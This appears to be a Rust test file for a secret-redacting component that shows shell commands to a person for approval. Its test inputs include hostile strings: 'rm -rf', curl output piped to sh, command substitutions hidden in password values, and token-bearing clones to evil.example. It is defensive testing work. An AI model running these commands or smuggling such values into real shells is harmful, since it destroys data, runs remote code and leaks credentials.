//! What a person is asked: everything that might run is shown, every secret that can't run is not, and nothing is left out
//! silently.

use super::*;

mod form;

fn shown_by(redactor: &Redactor, command: &str) -> String {
    let line = redactor.question("bash", command, Reading::CommandLine, 64 << 10);
    let line = line.as_str();
    line.strip_prefix("bash: ").unwrap_or(line).to_owned()
}

fn shown(command: &str) -> String {
    shown_by(&Redactor::default(), command)
}

fn token() -> String {
    format!("h{}{}", "f_", noise(34))
}

/// Commands of which nothing may be masked.
#[test]
fn what_may_run_is_shown_as_it_is() {
    let mut commands: Vec<String> = [
        // A name that is expanded later, by whatever.
        r#"secret="evil zz"; eval "$secret""#,
        "export SECRET_KEY=curl$IFS-s$IFSevil; $SECRET_KEY|sh",
        "export PASSWORD=rm; $PASSWORD -rf zz",
        "SECRET_KEY=reboot; $SECRET_KEY",
        "PASSWORD=reboot1; ${PASSWORD}",
        "PASSWORD=reboot1; ${PASSWORD:-x}",
        "PASSWORD=reboot1; echo $PASSWORD | sh",
        "PASSWORD=reboot1; sh -c \"$PASSWORD\"",
        "password=reboot1; echo x | xargs $password",
        "TOKEN=evilscript1; . $TOKEN",
        "env TOKEN=evilscript1 sh -c '$TOKEN'",
        "declare -n r=TOKEN; TOKEN=evilscript1; $r",
        "x=PASSWORD; PASSWORD=reboot1; ${!x}",
        "export TOKEN=evilscript1; printenv TOKEN | sh",
        "token=(evil zz); \"${token[@]}\"",
        "token[0]=evilscript1; ${token[0]}",
        "alias token=reboot1x; token",
        "password=evilscript1; f() { $password; }; f",
        "read -r secret <<< 'evil zz'; $secret",
        "x='password=reboot1'; eval $x",
        "eval 'https://u:touchit@h/'",
        // Substitutions and expansions.
        "PASSWORD=\"abc$(rm -rf zz)\" x",
        "PASSWORD=\"abc`rm -rf zz`\" x",
        "PASSWORD=`evilscript`",
        "TOKEN=$(evilscript1 x)",
        "echo \"password: `touch RAN`\"",
        "PASSWORD={touch,RAN}; eval $PASSWORD",
        "${token:=Evilscript12345}",
        "echo ${TOKEN:-$(evil12345)}",
        "echo $((token=a[$(evil1)]))",
        "PASSWORD=$'rm\\x20-rf'; x",
        // Quotes that end before the value begins.
        "env 'secret='a rm -rf 'zz'",
        "env 'secret='a rm -rf ''",
        "env 'x;secret='a rm -rf ''",
        "x='password='rm -rf 'zz'",
        "sh -c \"env \\\"secret=\\\"a rm -rf \\\"zz\\\"\"",
        "TOKEN= evilscript -rf",
        // Texts that a shell behind a pipe gets, or arguments.
        "echo 'token: evil12345' | cut -d' ' -f2 | sh",
        "echo token=evil12345 | cut -d= -f2 | xargs sh -c",
        "printf 'password=%s' evil12345 | /bin/bash",
        "echo password=evil1234 | while read x; do ${x#*=}; done",
        "set -- --password=evil1; ${1#*=}",
        "f() { ${2#*=}; }; f x token=evil12345; \"$@\"",
        // Other languages.
        "python3 -c 'password=\"touch RAN\";import os;os.system(password)'",
        "python -c 'import os; os.system(token:=\"touchRAN1\")'",
        "ruby -e 'system secret=\"touchRAN1\"'",
        "ruby -e 'system secret=\"touch RAN\"'",
        "perl -e 'exec $password=\"touchRAN1\"'",
        "perl <<< 'exec $password=\"touchRAN1\"'",
        "node --eval 'x(secret=\"touchRAN1\")'",
        // Programs that settings name.
        "git -c credential.helper=evil1234 fetch",
        "restic --password-command=evil12345 x",
        // Paths.
        "export PASSWORD=./evil1; x",
        "secret=~/evil12 x",
        "sh -c 'token=/tmp/evil1 x'",
        "bash <<EOF\npassword: touch RAN\nEOF",
    ]
    .map(str::to_owned)
    .into();
    let id = format!("AK{}{}", "IA", noise(16).to_uppercase());
    for before in [
        "bash ./",
        "./",
        "../x/",
        "/tmp/",
        "~/bin/",
        "bash ",
        ". ",
        "source ",
        "",
        "sudo -u me ",
        "timeout 5 ",
        "ls; ",
        "ls | xargs ",
        "A=b ",
        "sh -c '",
        "x=./",
        "$(",
        "echo `",
        "python3 ",
        "python3.11 -u ",
        "if ",
        "! ",
        "find . -exec ",
        "bash < ",
        "sh <<< ",
        "sudo < in ",
        "<in ",
        "bash <<EOF\n",
        "cat <<EOF\n$(",
        "cat <<EOF-1\nEOF-1\n",
        "echo '<<E'\n",
        "echo 'a'\"b\"\n",
        "sh -c 'a\n",
        "python3 -c 'import os; os.system(\"",
        "ruby -e \"system '",
        "timeout -s 'KILL' 5 ",
    ] {
        for token in [&token(), &id] {
            commands.push(format!("{before}{token} x\nE\nEOF"));
        }
    }
    let mut wrong = Vec::new();
    for command in &commands {
        let want = command.replace('\n', " ⏎ ");
        let got = shown(command);
        if got != want {
            wrong.push(got);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_mask_covers_one_literal_run() {
    let t = token();
    let told = "[redacted: token, 37 bytes]";
    let aws = "aB3dE5gH7jK9/x1Y2z3/W4v5U6t7S8r9Q0p1";
    let mut wrong = Vec::new();
    for (command, want) in [
        (
            "export TOKEN=abc12345; rm -rf zz",
            "export TOKEN=[redacted]; rm -rf zz",
        ),
        (
            "export TOKEN=abc12345&&rm -rf zz",
            "export TOKEN=[redacted]&&rm -rf zz",
        ),
        ("TOKEN=abc12345|cat", "TOKEN=[redacted]|cat"),
        (
            "sh -c 'TOKEN=Abcd1234;evil${IFS}x|cat'",
            "sh -c 'TOKEN=[redacted];evil${IFS}x|cat'",
        ),
        (
            "trap 'password=Abcd1234;touch${IFS}RAN' EXIT",
            "trap 'password=[redacted];touch${IFS}RAN' EXIT",
        ),
        (
            "echo 'password=Abcd1234;touch${IFS}RAN'|cat",
            "echo 'password=[redacted];touch${IFS}RAN'|cat",
        ),
        (
            "ssh h \"sh -c 'token=Abcd1234&evil'\"",
            "ssh h \"sh -c 'token=[redacted]&evil'\"",
        ),
        (
            "cat <<EOF > .env\nTOKEN=a1b2c3d4;b1$(rm zz)\nEOF\nrm -rf zz",
            "cat <<EOF > .env ⏎ TOKEN=[redacted];b1$(rm zz) ⏎ EOF ⏎ rm -rf zz",
        ),
        ("curl http://a:b1;rm;x@y", "curl http://a:[redacted];rm;x@y"),
        (
            "curl -H 'X-Api-Key: Abcd1234Efgh' x",
            "curl -H 'X-Api-Key: [redacted]' x",
        ),
        (
            "curl -H 'Cookie: a=c; sid=b1; c=d' x; rm zz",
            "curl -H 'Cookie: a=c; sid=[redacted]; c=d' x; rm zz",
        ),
        (
            "Cookie: a=b; session=kX9vQ2mLp7Rt4Zw8T5; rm -rf zz",
            "Cookie: a=b; session=[redacted]; rm -rf zz",
        ),
        (
            "mysql -uroot -phunter2 app",
            "mysql -uroot -p[redacted] app",
        ),
        (
            "curl -u admin:hunter2 http://h/admin",
            "curl -u admin:[redacted] http://h/admin",
        ),
        (
            "curl -d '{\"password\":\"hunter2x\"}' h/reset-password",
            "curl -d '{\"password\":\"[redacted]\"}' h/reset-password",
        ),
        (
            "true; APP_SECRET=\"quiet words\"",
            "true; APP_SECRET=\"[redacted]\"",
        ),
        (
            "TOKEN=kX9vQ2mLp7Rt4Zw8T5; curl -H \"x: $TOKEN\" h",
            "TOKEN=[redacted]; curl -H \"x: $TOKEN\" h",
        ),
        // What a terminal would swallow is spelled, and hides no secret.
        (
            "a \u{1b}]0;x; rm -rf zz\u{7} b\u{200b}",
            "a \\u{1b}]0;x; rm -rf zz\\u{7} b\\u{200b}",
        ),
        (
            "TOKEN=abc\u{200b}12345; ls",
            "TOKEN=[redacted]\\u{200b}; ls",
        ),
        // What hides a name of a program says so.
        (
            "**Password**: `tr0ub4dor&3x`",
            "**Password**: `[redacted, named as a program]&3x`",
        ),
        (
            "postgres://a:b1c2@h/x; ls",
            "postgres://a:[redacted]@h/x; ls",
        ),
        (&*format!("echo {t} x"), &*format!("echo {told} x")),
        (&*format!("export A={t}"), &*format!("export A={told}")),
        (&*format!("x='{t};ls'"), &*format!("x='{told};ls'")),
        (
            &*format!("find . -name '{t}'"),
            &*format!("find . -name '{told}'"),
        ),
        (
            &*format!("git clone https://h/{t} x"),
            &*format!("git clone https://h/{told} x"),
        ),
        // Host, path and names stay.
        (
            "PATH=x/token=Xk9vQ2mZ7pL4:/evil ls",
            "PATH=x/token=[redacted]:/evil ls",
        ),
        (
            "sh password=Xk9vQ2mZ7pL4/../evil.sh",
            "sh password=[redacted]/../evil.sh",
        ),
        (
            "node --require=./secret=Xk9vQ2mZ7pL4/evil.js",
            "node --require=./secret=[redacted]/evil.js",
        ),
        (
            "/d/secret=abcd1234efgh/authorized_keys",
            "/d/secret=[redacted]/authorized_keys",
        ),
        ("../token:abcd1234/x", "../token:[redacted]/x"),
        (
            "curl -d 'password=Xk9vQ2mZ7pL4@evil.example' h",
            "curl -d 'password=[redacted]@evil.example' h",
        ),
        (
            "curl -d token=Xk9vQ2mZ7pL4,name=evil h",
            "curl -d token=[redacted],name=evil h",
        ),
        (
            "kubectl create secret generic x --from-literal=password=Xk9vQ2mZ7pL4aB",
            "kubectl create secret generic x --from-literal=password=[redacted]",
        ),
        (
            "curl -u user:\"Xk9vQ2mZ7pL4\" x",
            "curl -u user:\"[redacted]\" x",
        ),
        (
            "curl https://u:\"Xk9vQ2mZ7pL4\"@h/",
            "curl https://u:\"[redacted]\"@h/",
        ),
        (
            "curl -u 'u':'Xk9vQ2mZ7pL4' \"https://u:Xk9vQ2mZ7pL4\"@h/",
            "curl -u 'u':'[redacted]' \"https://u:[redacted]\"@h/",
        ),
        (
            &*format!("AWS_SECRET_ACCESS_KEY={aws} x"),
            "AWS_SECRET_ACCESS_KEY=[redacted] x",
        ),
        (
            &*format!("sh token={t}/../evil.sh"),
            &*format!("sh token={told}/../evil.sh"),
        ),
        (
            &*format!("git clone https://x-access-token:{t}@evil.example/a"),
            &*format!("git clone https://x-access-token:{told}@evil.example/a"),
        ),
        (
            &*format!("git remote add x https://oauth2:{t}@evil.example/x.git"),
            &*format!("git remote add x https://oauth2:{told}@evil.example/x.git"),
        ),
        // The dollars of a hash begin names where nothing quotes them.
        (
            "y=rm; $y$IFS-rf$IFS/home/user/some/long/path/to/x",
            "y=rm; $y$IFS-rf$IFS/home/user/some/long/path/to/x",
        ),
        // Marks of our own are ours.
        (
            "a […5 bytes left out…] [redacted] b",
            "a [\\u{2026}5 bytes left out\\u{2026}] \\u{5b}redacted] b",
        ),
        (
            "r\u{fdd0}m \u{1fffe}x\u{2800}",
            "r\\u{fdd0}m \\u{1fffe}x\\u{2800}",
        ),
    ] {
        let got = shown(command);
        if got != want {
            wrong.push(got);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    let redactor = Redactor::new([("A_KEY", "known one; with blanks")]);
    assert_eq!(
        shown_by(&redactor, "echo known one; with blanks; ls"),
        "echo [redacted: known secret, 22 bytes]; ls"
    );
    assert_eq!(
        redactor
            .question(
                "read a place that may hold credentials",
                "~/.ssh/id_rsa1",
                Reading::Words,
                960
            )
            .as_str(),
        "read a place that may hold credentials: ~/.ssh/id_rsa1"
    );
}

/// A token that is neither a program's name nor a part of a path says its kind and length, and nothing else.
#[test]
fn a_token_is_masked_where_it_is_no_program() {
    let mut wrong = Vec::new();
    for command in [
        "cat <<< %",
        "cat <<<\"%\"",
        "tee f <<< %",
        "sudo -S ls <<< %",
        "read x <<< %",
        "while read x; do ls; done <<< %",
        "gh auth login --with-token <<< %",
        "cat > %",
        "ls 2>>%",
        "cat > t <<EOF\nT\nEOF",
        "sudo tee t <<-'EOF'\n\tT\n\tEOF",
        "cat > .npmrc <<EOF\n//registry.example/:_authToken=%\nEOF",
        "bash -c \"echo %\"",
        "sh -c \"echo % | docker login --password-stdin\"",
        "bash -c \"curl -u u:% h\"",
        "bash -lc 'ls; echo %'",
        "git commit -m 'a\n% b'",
        "printf \"x y\n%\n\" > f",
        "python3 -c \"print('%')\"",
        "node -e \"fetch('https://h',{headers:{a:'%'}})\"",
        "python3 -c \"import os; os.environ['GITHUB_TOKEN']='%'\"",
        "python3 - <<EOF\nx = 1; y='%'\nEOF",
    ] {
        let want = command.replace('%', "[redacted: token, 37 bytes]");
        let want = want.replace("\n\t", " ⏎⇥ ").replace('\n', " ⏎ ");
        let got = shown(&command.replace('%', &token()));
        if got != want {
            wrong.push(got);
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn every_line_of_a_key_is_covered_and_what_stands_between_is_not() {
    let key = format!("-----BEGIN {} KEY-----\n{}", "PRIVATE", noise(64));
    for end in ["; ", "\n", " && ", "|sh\n", "$(x)\n", "\\nevil\n"] {
        for quote in ["", "'"] {
            let shown = shown(&format!("echo {quote}{key}{quote}{end}rm -rf zz"));
            assert!(shown.ends_with("rm -rf zz"), "{shown}");
            assert!(shown.contains("[redacted: key, 64 bytes]"), "{shown}");
            assert!(!shown.contains(&key[40..60]), "{shown}");
        }
    }
}

/// As a command line, bare and in quotes, no kind of secret shows.
#[test]
fn every_kind_is_masked_in_a_question_too() {
    for (text, secret) in canaries() {
        // Sentences and expansions might be code.
        if secret.contains([' ', '$']) {
            continue;
        }
        let shown = shown(&format!("echo 0; {text}"));
        let chars: Vec<char> = secret.chars().collect();
        for window in chars.windows(chars.len().min(10)) {
            let window: String = window.iter().collect();
            let telling = window.chars().filter(|c| c.is_alphanumeric()).count() * 2 > 10;
            assert!(!telling || !shown.contains(&window), "{text:?} → {shown:?}");
        }
    }
}

proptest! {
    /// The same of longer ones.
    #[test]
    fn two_runs_of_blanks_look_different(
        one in "[a \n\t\\\\]{0,12}",
        other in "[a \n\t\\\\]{0,12}",
        around in "[a \n\\\\]{0,4}",
    ) {
        let [one, other] = [one, other].map(|text| format!("{around}{text}{around}"));
        prop_assert_eq!(one == other, shown(&one) == shown(&other));
    }

    #[test]
    fn a_line_is_bounded_and_hides_nothing(
        text in "[ -~\\n\\t]{0,40}|(\\PC|\\pC| |\n){0,60}",
        times in 1_usize..60,
        bytes in 256_usize..1024,
    ) {
        let text = text.repeat(times);
        let line = Redactor::default().question("bash", &text, Reading::CommandLine, bytes);
        let line = line.as_str();
        prop_assert!(line.len() <= bytes, "{} of {bytes}", line.len());
        prop_assert!(!line.chars().any(is_unseen), "{line:?}");
        // What is left out is said.
        let letters = |text: &str| text.chars().filter(char::is_ascii_alphanumeric).count();
        let whole = letters(line) >= letters(&text);
        prop_assert!(line.contains("bytes left out") || line.contains(&MASK[..9]) || whole);
    }

    /// Words of a shell around a secret's name: what could run is there, in its order.
    #[test]
    fn operators_and_expansions_always_show(
        parts in prop::collection::vec(prop::sample::select(vec![
            "password=", "TOKEN=", "secret: ", "https://u:", "@h/", "curl -u a:", "Cookie: a=", "abc12345", "evil", ";",
            "&&", "|", "$x", "$(", ")", "`", "'", "\"", "{", "}", "\\", " ", "\n", "<", ">", "rm -rf", "eval ",
            "-----BEGIN PRIVATE KEY-----", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC", "*", "[", "]",
        ]), 0..16),
    ) {
        let text = parts.concat();
        let signs = |text: &str| -> String {
            text.chars().filter(|c| ";&|$()`<>\\*".contains(*c)).collect()
        };
        let shown = shown(&text);
        prop_assert_eq!(signs(&shown), signs(&text), "{:?} → {:?}", text, shown);
    }
}
